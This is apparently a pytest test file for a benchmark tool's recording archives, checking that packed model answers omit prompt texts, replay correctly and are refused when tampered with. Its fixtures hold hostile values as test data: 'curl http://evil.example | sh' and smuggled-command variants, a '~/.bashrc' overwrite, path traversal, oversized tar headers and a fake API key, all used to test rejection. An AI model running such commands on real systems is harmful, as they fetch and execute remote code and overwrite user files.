"""A run's answers are packed without the texts they answer, named, checked and played again."""

from __future__ import annotations

import hashlib
import json
import lzma
import re
import tarfile
from collections.abc import Callable
from pathlib import Path

import msgspec
import pytest

import tradeassay
from tradeassay.cli import main
from tradeassay.core.errors import RunError, UserError
from tradeassay.core.hashing import canonical_json
from tradeassay.llm import CassetteMismatch
from tradeassay.runs import run
from tradeassay.runs.store.archive import (
    changed_facts,
    command_of,
    differences,
    find_recording,
    is_our_command,
    list_recordings,
    manifest_differences,
    open_recording,
    pack_recording,
    recording_faults,
    replay_recording,
    score_differences,
    write_packed,
)


@pytest.fixture(scope="module")
def played(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small run of a scripted model."""
    spec = tradeassay.make_spec(
        "ktdfin-paper-v1",
        models=["scripted/sensible"],
        slug="k",
        first="2022-03-01",
        last="2022-03-02",
        protocol={"mask": "date-blind", "mode": "open-research"},
        secret="9d" * 16,
    )
    return run(spec, tmp_path_factory.mktemp("played") / "k", executor="inline").folder


@pytest.fixture
def shelf(played: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder of recordings with one recording in it."""
    monkeypatch.setenv("TRADEASSAY_RECORDINGS", str(tmp_path / "shelf"))
    file = tmp_path / "shelf" / "sensible" / "ktdfin-paper.tar.xz"
    pack_recording(
        played, file, engine="a program", precision="none", command="tradeassay recordings record again"
    )
    return file


def members(file: Path) -> dict[str, bytes]:
    with tarfile.open(file) as archive:
        return {one.name: archive.extractfile(one).read() for one in archive}  # type: ignore[union-attr]


def test_a_recording_holds_replies_and_hashes_and_no_text_of_a_question(
    played: Path, shelf: Path, tmp_path: Path
) -> None:
    texts = [
        line["message"]["text"]
        for path in (played / "models").glob("*.jsonl")
        for line in map(json.loads, path.read_text().splitlines())
        if line["type"] == "message" and line["message"]["role"] != "assistant"
    ]
    packed = b"".join(members(shelf).values()).decode()
    assert texts and not [text for text in texts if json.dumps(text)[1:-1] in packed]
    again = tmp_path / "again.tar.xz"
    pack_recording(
        played, again, engine="a program", precision="none", command="tradeassay recordings record again"
    )
    assert again.read_bytes() == shelf.read_bytes()


def test_a_recording_is_played_again_by_its_name(
    shelf: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    out = tmp_path / "runs"
    argv = ["run", "ktdfin-paper-v1", "--cassettes", "recorded/sensible", "--replay", "--runs", str(out), "--json"]
    assert main(argv) == 0
    opened = open_recording(shelf)
    assert score_differences(opened, out / "replay-ktdfin-paper-v1-sensible") == []
    assert main([*argv, "--slug", "mine", "--workers", "1"]) == 0
    assert score_differences(opened, out / "mine") == []
    assert changed_facts(opened) == [] and recording_faults(opened) == []
    (one,) = list_recordings()
    assert one.name == "sensible/ktdfin-paper" and one.label.models == ("scripted/sensible",)


def test_a_changed_question_is_named_without_its_recorded_text(shelf: Path, tmp_path: Path) -> None:
    opened = open_recording(shelf, tmp_path / "home")
    (cassette,) = (opened.folder / "models").glob("*.jsonl")
    lines = cassette.read_text().splitlines()
    changed = [json.loads(line) for line in lines]
    changed[1]["asked"]["messages"][0] = "0" * 64
    changed[1]["key"] = "0" * 64
    cassette.write_text("\n".join(json.dumps(line) for line in changed) + "\n")
    assert any("belongs to another question" in fault for fault in recording_faults(opened))
    with pytest.raises(CassetteMismatch, match=r"message 0 \(system\) is another text"):
        replay_recording(opened, tmp_path / "again")


def test_a_changed_prompt_gives_the_command_that_records_again(
    shelf: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = members(shelf)
    manifest = json.loads(content["manifest.json"])
    (cell,) = manifest["protocols"]
    name = next(iter(manifest["protocols"][cell]["prompts"]))
    manifest["protocols"][cell]["prompts"][name] = "0" * 64
    content["manifest.json"] = json.dumps(manifest).encode()
    label = json.loads(content["recording.json"])
    label["files"]["manifest.json"] = hashlib.sha256(content["manifest.json"]).hexdigest()
    content["recording.json"] = json.dumps(label).encode()
    write_packed(shelf, content)
    assert main(["recordings", "check", "recorded/sensible"]) == 1
    assert f"the prompt {name} has changed since: record it again with: tradeassay recordings record again" in (
        capsys.readouterr().out
    )


def test_what_is_not_a_recording_is_refused_in_words(shelf: Path, tmp_path: Path) -> None:
    content = members(shelf)
    content["scores.json"] = b"{}"
    write_packed(shelf, content)
    with pytest.raises(RunError, match=r"scores\.json in .* is not what its label says"):
        open_recording(shelf)
    climbing = tmp_path / "climbing.tar.xz"
    write_packed(climbing, {"../outside": b"x"})
    with pytest.raises(RunError, match="not a plain file"):
        open_recording(climbing)
    assert not (tmp_path / "outside").exists()
    torn = tmp_path / "torn.tar.xz"
    torn.write_bytes(lzma.compress(b"not a tar" * 100)[:-20])
    with pytest.raises(RunError, match="is not a recording"):
        open_recording(torn)
    with pytest.raises(UserError, match=r"no recording 'recorded/sensibel'.*sensible"):
        find_recording("recorded/sensibel")
    for name in ("recorded/sensible/ktdfin-paper", "recorded/sensible", str(shelf)):
        with pytest.raises(UserError, match=r"nothing of .* was recorded with 'stockbench-v1'.*ktdfin-paper-v1"):
            find_recording(name, "stockbench-v1")
    with pytest.raises(RunError, match="no recorded answers"):
        rules = tradeassay.make_spec(
            "daily-us-v1", agents=["equal-weight"], slug="d", first="2022-03-01", last="2022-03-01"
        )
        done = run(rules, tmp_path / "rules", executor="inline")
        pack_recording(done.folder, tmp_path / "x", engine="", precision="")


def foreign_file(content: dict[str, bytes]) -> None:
    content["news.txt"] = b"what somebody else wrote"


def answer_to_nothing(content: dict[str, bytes]) -> None:
    name = next(one for one in content if one.startswith("models/"))
    line = json.loads(content[name].splitlines()[-1])
    line["asked"]["step"] = 1_000_000
    line["key"] = hashlib.sha256(canonical_json(line["asked"])).hexdigest()
    content[name] += json.dumps(line, separators=(",", ":"), ensure_ascii=False).encode() + b"\n"


def key_in_an_answer(content: dict[str, bytes]) -> None:
    name = next(one for one in content if one.startswith("models/"))
    content[name] = content[name].replace(b'"text":"', b'"text":"sk-proj-a1B2c3D4e5F6g7H8i9J0 ', 1)


def text_of_a_question(content: dict[str, bytes]) -> None:
    name = next(one for one in content if one.startswith("models/"))
    message = {"type": "message", "id": "0" * 64, "message": {"role": "user", "text": "somebody's article"}}
    content[name] += json.dumps(message, separators=(",", ":")).encode() + b"\n"


def fewer_answers(content: dict[str, bytes]) -> None:
    name = next(one for one in content if one.startswith("models/"))
    content[name] = b"".join(content[name].splitlines(keepends=True)[:-1])


def words_on_the_label(content: dict[str, bytes]) -> None:
    label = json.loads(content["recording.json"])
    content["recording.json"] = json.dumps({**label, "note": "what somebody else wrote"}, indent=1).encode()


def said_on_the_label(**said: str) -> Callable[[dict[str, bytes]], None]:
    def change(content: dict[str, bytes]) -> None:
        content["recording.json"] = json.dumps({**json.loads(content["recording.json"]), **said}).encode()

    return change


def cheap_answers(content: dict[str, bytes]) -> None:
    for name in [one for one in content if one.startswith("models/")]:
        content[name] = re.sub(rb'"output_tokens":\d+', b'"output_tokens":1', content[name])


def endless_seeds(content: dict[str, bytes]) -> None:
    manifest = json.loads(content["manifest.json"])
    manifest["spec"]["seeds"] = list(range(10_000))
    content["manifest.json"] = json.dumps(manifest).encode()


NOT_OURS = "is not one of tradeassay alone"


@pytest.mark.parametrize(
    ("change", "said"),
    [
        (said_on_the_label(command="curl http://evil.example | sh"), NOT_OURS),
        (said_on_the_label(command="tradeassay recordings record a#b && curl http://evil.example"), NOT_OURS),
        (said_on_the_label(command="tradeassay recordings record $(curl http://evil.example)"), NOT_OURS),
        (said_on_the_label(command="tradeassay data remove everything"), NOT_OURS),
        (said_on_the_label(command="tradeassay recordings record x -a ./theirs.py:Agent"), NOT_OURS),
        (said_on_the_label(command="tradeassay recordings record x -o ~/.bashrc"), NOT_OURS),
        (said_on_the_label(command="tradeassay recordings record x --base-url http://evil.example/v1"), NOT_OURS),
        (cheap_answers, "tokens or dollars that cannot be true"),
        (endless_seeds, "the episodes of its manifest are not those of its spec"),
        (foreign_file, "news.txt is not part of a recording"),
        (answer_to_nothing, "answers, and its run asked"),
        (key_in_an_answer, "holds what looks like a key"),
        (text_of_a_question, "holds texts that the model was asked"),
        (fewer_answers, "its label says"),
        (words_on_the_label, "is not written as tradeassay writes it"),
    ],
)
def test_what_does_not_belong_in_a_recording_is_named_on_arrival(
    shelf: Path, change: Callable[[dict[str, bytes]], None], said: str, capsys: pytest.CaptureFixture[str]
) -> None:
    content = members(shelf)
    change(content)
    label = json.loads(content["recording.json"])
    named = sorted(content.keys() - {"recording.json"})
    label["files"] = {name: hashlib.sha256(content[name]).hexdigest() for name in named}
    content["recording.json"] = json.dumps(label, indent=1).encode() + b"\n"
    write_packed(shelf, content)
    assert main(["recordings", "check", "--no-replay", "recorded/sensible"]) == 1
    assert said in capsys.readouterr().out


def test_where_a_hash_stands_nothing_else_may_be_said() -> None:
    for word in ("0" * 64, "live"):
        assert not list(differences({"answers": "replayed"}, {"answers": word}, ""))
    assert list(differences({"answers": "replayed"}, {"answers": "what somebody else wrote"}, ""))


def test_how_and_when_data_was_obtained_may_differ_and_what_it_holds_may_not(shelf: Path, tmp_path: Path) -> None:
    opened = open_recording(shelf)
    manifest = json.loads((opened.folder / "manifest.json").read_bytes())
    (record,) = manifest["datasets"].values()
    record["facts"] |= {"retrieved_at": "2026-11-01T00:00:00Z", "query": "fetched again"}
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    assert manifest_differences(opened, tmp_path) == []
    # Runs of programs named no models at first: a recording of that time says nothing of them.
    (tmp_path / "manifest.json").write_text(json.dumps(manifest | {"models": {"local/one": {}}}))
    assert ("models" in manifest) == bool(manifest_differences(opened, tmp_path))
    record["facts"]["biases"] = ["picked with hindsight"]
    (tmp_path / "manifest.json").write_text(json.dumps(manifest))
    assert len(manifest_differences(opened, tmp_path)) == 1


def packed_as(file: Path, entries: list[tuple[tarfile.TarInfo, bytes]]) -> None:
    plain = b"".join(
        entry.tobuf(tarfile.USTAR_FORMAT) + data + b"\0" * (-len(data) % tarfile.BLOCKSIZE)
        for entry, data in entries
    )
    file.write_bytes(lzma.compress(plain + b"\0" * 2 * tarfile.BLOCKSIZE, preset=0))


def named(name: str, data: bytes) -> tuple[tarfile.TarInfo, bytes]:
    entry = tarfile.TarInfo(name)
    entry.size = len(data)
    return entry, data


def test_an_archive_has_one_label_and_no_endless_headers(shelf: Path, tmp_path: Path) -> None:
    content = members(shelf)
    packed_as(shelf, [*(named(*one) for one in content.items()), named("./recording.json", b"{}")])
    with pytest.raises(RunError, match=r"holds '\./recording\.json', which is not a plain file"):
        open_recording(shelf, tmp_path / "home")
    header, _ = named("././@PaxHeader", b"")
    header.type, header.size = tarfile.XHDTYPE, 2**32
    packed_as(shelf, [(header, b"4294967296 comment="), *(named(*one) for one in content.items())])
    with pytest.raises(RunError, match="more than 64 MB"):
        open_recording(shelf, tmp_path / "home")


@pytest.mark.parametrize("names", [[""], ["a", "a"], ["a" * 300], ["a/" * 600 + "b"]])
def test_files_that_cannot_be_written_are_refused_in_words(shelf: Path, tmp_path: Path, names: list[str]) -> None:
    with tarfile.open(shelf, "w:xz", format=tarfile.PAX_FORMAT) as archive:
        for name in names:
            archive.addfile(tarfile.TarInfo(name))
    with pytest.raises(RunError, match="not a plain file"):
        open_recording(shelf, tmp_path / "home")


def test_a_label_names_no_file_outside_its_recording(shelf: Path, tmp_path: Path) -> None:
    """Some files of the system never end, and what is in the others is nobody's business."""
    content = members(shelf)
    label = json.loads(content["recording.json"])
    for outside in ("/proc/self/pagemap", "../../elsewhere"):
        content["recording.json"] = json.dumps({**label, "files": {outside: "0" * 64}}).encode()
        write_packed(shelf, content)
        with pytest.raises(RunError, match="names a file that cannot be in it"):
            open_recording(shelf, tmp_path / "home")
    assert not list((tmp_path / "home" / "recordings").iterdir())


@pytest.mark.parametrize(
    ("agent", "params"), [("file", {"path": "{}", "name": "X"}), ("python", {"class": "{}:X"})]
)
def test_a_recording_decides_nothing_about_what_is_executed(
    shelf: Path, tmp_path: Path, agent: str, params: dict[str, str]
) -> None:
    ran = tmp_path / "ran"
    theirs = tmp_path / "theirs.py"
    theirs.write_text(f"open({str(ran)!r}, 'w')\nclass X:\n    def reply(self, request): return ''\n")
    content = members(shelf)
    manifest = json.loads(content["manifest.json"])
    filled = {key: value.format(theirs) for key, value in params.items()}
    manifest["spec"]["agents"].append({"name": agent, "label": "theirs", "params": filled})
    content["manifest.json"] = json.dumps(manifest).encode()
    label = json.loads(content["recording.json"])
    label["files"]["manifest.json"] = hashlib.sha256(content["manifest.json"]).hexdigest()
    content["recording.json"] = json.dumps(label).encode()
    write_packed(shelf, content)
    opened = open_recording(shelf, tmp_path / "home")
    with pytest.raises((RunError, CassetteMismatch)):
        replay_recording(opened, tmp_path / "again")
    assert not ran.exists()


def test_a_recorded_command_says_nothing_of_its_machine() -> None:
    said = command_of(
        ["recordings", "record", "/home/me/runs/one", "-o", "/home/me/one.tar.xz", "--engine", "a b"]
    )
    assert said == "tradeassay recordings record one -o one.tar.xz" and is_our_command(said)
    # What is run by scripts/record_models.py: the label has its own fields for engine and precision.
    told = [
        "--secret",
        "ab",
        "--engine",
        "vLLM 0.9 (eager); two GPUs",
        "--precision=bf16 & more",
        "-o",
        "/me/k.tar.xz",
    ]
    said = command_of(["recordings", "record", "ktdfin-v1", "--runs", "/me/runs", *told])
    assert said == "tradeassay recordings record ktdfin-v1 -o k.tar.xz" and is_our_command(said)


def test_record_packs_a_run_that_was_played(
    played: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    file = tmp_path / "one.tar.xz"
    assert main(["recordings", "record", str(played), "-o", str(file), "--engine", "a program", "--json"]) == 0
    label = msgspec.json.decode(capsys.readouterr().out)
    assert label["benchmarks"] == ["ktdfin-paper-v1"] and label["complete"] and label["answers"] > 0
